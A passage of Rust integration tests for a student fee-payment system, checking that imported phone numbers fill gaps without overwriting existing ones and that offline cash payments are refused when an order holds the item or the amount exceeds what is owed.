/// file gives his phone: it is filled in, audited, and the first login works. A phone already
/// on file (张三's, the student's own) is never replaced by a file.
#[tokio::test]
async fn a_file_fills_in_a_missing_phone_and_never_replaces_one() {
    let t = spawn().await;
    assert_eq!(error_code(t.login(&browser(), "2021010107", "02182716").await).await.1, "NO_PHONE_FOR_FIRST_LOGIN");
    let file = with_phones(vec![
        bill_row(&t, "2021010107", "郑十", "620102199602182716", "TUITION", "学费", "学费", "3200"),
        bill_row(&t, ZHANG, "张三", ZHANG_ID, "TUITION", "学费", "学费", "3800"),
    ]);
    let out = import(&t, "imports/phones.csv", file.into_bytes()).await;
    assert_eq!((out["status"].as_str(), out["summary"]["phones_added"].as_u64()), (Some("applied"), Some(1)), "{out}");
    assert!(report(&t, "imports/phones.report.csv").await.contains("补登手机号码,1"));
    let zheng = t.app.store.get_student(&sno("2021010107")).await.unwrap().unwrap();
    assert_eq!(zheng.contact.phone.unwrap().masked(), "138****0107");
    let zhang = t.app.store.get_student(&sno(ZHANG)).await.unwrap().unwrap();
    assert_eq!(zhang.contact.phone.unwrap().masked(), "187****6579", "the student's own phone stays");
    let log = t.app.store.audit_for_student(&sno("2021010107")).await.unwrap();
    assert!(log.iter().any(|e| e.action == AuditAction::ContactChanged && e.after.as_deref() == Some("phone=138****0107")), "{log:?}");
    t.login_ready(&browser(), "2021010107", "02182716", "Campus2026z").await;
}

/// Before: an offline payment credited an item an open order held (the student could pay it
/// online at the same time, and it would count twice) and any amount, above what was owed.
/// Now both are refused with nothing written, and the payment goes in once the order is closed
/// — once, even when submitted again.
#[tokio::test]
async fn an_offline_payment_never_credits_a_held_item_or_more_than_is_owed() {
    use shared::service::records::{OfflineItem, OfflineRejected, OfflineSubmission};
    use shared::store::OfflinePaymentStore;
    let t = spawn().await;
    let c = browser();
    t.login_ready(&c, ZHANG, "03151235", "Campus2026a").await;
    let y = year(&t, 0);
    let order: Value = t.post(&c, "/api/orders", json!({"items": [{"academic_year": y, "item_id": "EXAM"}]})).await.json().await.unwrap();
    let order_no = order["order_no"].as_str().unwrap().to_owned();
    let cash = |reference: &str, fen: i64| OfflineSubmission {
        reference: reference.into(),
        student_no: ZHANG.into(),
        items: vec![OfflineItem { academic_year: y.clone(), item_id: "EXAM".into(), amount: Fen::new(fen) }],
        method: "cash".into(),
        paid_at: t.clock.now(),
        receipt_no: None,
        recorded_by: "财务处-张敏".into(),
    };
    let by = by_operator();
    match t.app.record_offline_payment(&cash("CASH-1", 12_000), &by).await {
        Err(OfflineRejected::ItemHeld { order, .. }) => assert_eq!(order, order_no),
        other => panic!("an item held by an open order was credited: {other:?}"),
    }
    // The store refuses it too, for a decision made just before the order took the item.
    let fees = t.app.store.list_fee_items(&sno(ZHANG)).await.unwrap();
    let exam_item = fees.iter().find(|f| f.item_id.as_str() == "EXAM" && f.academic_year.to_string() == y).unwrap();
    let line = OrderLine {
        academic_year: exam_item.academic_year,
        item_id: exam_item.item_id.clone(),
        name: exam_item.name.clone(),
        fee_type: exam_item.fee_type,
        amount: Fen::new(12_000),
    };
    let raced = OfflinePayment::new(
        PaymentRef::parse("CASH-0").unwrap(),
        sno(ZHANG),
        vec![line],
        OfflineMethod::Cash,
        t.clock.now(),
        None,
        "财务处-张敏",
        t.clock.now(),
    )
    .unwrap();
    let answer = t.app.store.record_offline_payment(&raced, &[exam_item.due], &by).await;
    assert!(matches!(answer, Err(shared::store::StoreError::Conflict)), "{answer:?}");
    assert!(t.post(&c, &format!("/api/orders/{order_no}/cancel"), json!({})).await.status().is_success());
    match t.app.record_offline_payment(&cash("CASH-2", 12_001), &by).await {
        Err(OfflineRejected::AboveDue { outstanding, .. }) => assert_eq!(outstanding, Fen::new(12_000)),
        other => panic!("more than was owed was credited: {other:?}"),
    }
    let exam = |fees: Vec<FeeItem>| fees.into_iter().find(|f| f.item_id.as_str() == "EXAM" && f.academic_year.to_string() == y).unwrap();
    assert_eq!(exam(t.app.store.list_fee_items(&sno(ZHANG)).await.unwrap()).paid, Fen::ZERO, "nothing credited");
    for r in ["CASH-1", "CASH-2"] {
        assert!(t.app.store.get_offline_payment(&PaymentRef::parse(r).unwrap()).await.unwrap().is_none(), "{r} not recorded");
    }
    assert_eq!(t.app.record_offline_payment(&cash("CASH-1", 12_000), &by).await.unwrap(), OfflineOutcome::Recorded);
    assert_eq!(t.app.record_offline_payment(&cash("CASH-1", 12_000), &by).await.unwrap(), OfflineOutcome::AlreadyRecorded);
    assert_eq!(exam(t.app.store.list_fee_items(&sno(ZHANG)).await.unwrap()).paid, Fen::new(12_000));
}
